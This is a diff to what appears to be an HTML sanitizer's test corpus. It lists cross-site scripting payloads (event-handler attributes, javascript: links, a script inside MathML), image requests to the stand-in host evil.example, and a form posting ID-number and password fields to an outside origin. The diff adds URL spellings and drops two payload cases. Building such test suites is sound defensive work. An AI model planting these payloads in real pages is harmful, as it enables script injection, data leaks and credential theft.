@@ -37,7 +37,6 @@ const written = [
   `<video><source onerror=${RUN} src=nothing></video>`,
   `<audio src=nothing onerror=${RUN} autoplay></audio>`,
   `<details open ontoggle=${RUN}>x</details>`,
-  `<select autofocus onfocus=${RUN}></select>`,
   `<dialog open oncancel=${RUN} onclose=${RUN}>x</dialog>`,
   `<xss-x onclick=${RUN} tabindex=1 autofocus onfocus=${RUN}>x</xss-x>`,
   `<style onload=${RUN}></style>`,
@@ -114,7 +113,9 @@ const addresses = BARE_ADDRESSES.flatMap((address, index) => [
 /** What fetches from another origin: an image in each spelling of its URL, and each element and attribute. */
 const requests = [
   ...words(String.raw`//evil.example/1 https:evil.example/2 \\evil.example\3 /\evil.example/4
-    http://localhost@evil.example/5 ${OUT}/6`).map((url) => `<img src="${url}" alt=x>`),
+    http://localhost@evil.example/5 ${OUT}/6 HTTPS://EVIL.EXAMPLE/60 //evil.example:443/61 https:///evil.example/62`).map(
+    (url) => `<img src="${url}" alt=x>`,
+  ),
   `<img src="https://\tevil.example/7">`,
   `<img src=nothing srcset="${OUT}/8 1x" sizes=100vw longdesc=${OUT}/10 lowsrc=${OUT}/11>`,
   `<img src=nothing srcset="${OUT}/9 1x" crossorigin referrerpolicy=unsafe-url>`,
@@ -228,7 +229,6 @@ const foreign = [
   `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>`,
   `<svg xmlns:x="http://www.w3.org/1999/xlink"><a x:href="javascript:${RUN}"><text>x</text></a></svg>`,
   `<math onclick=${RUN} tabindex=1><maction actiontype=toggle onclick=${RUN}>x</maction></math>`,
-  `<math><semantics><annotation-xml><script>${RUN}</script></annotation-xml></semantics></math>`,
   `<form action=${OUT}/ method=post><input name=pesel><button>Dalej</button></form>`,
   `<input name=pesel autocomplete=on><input type=password name=haslo>`,
   `<label>x<input type=file></label><select name=a><option>x</option></select>`,
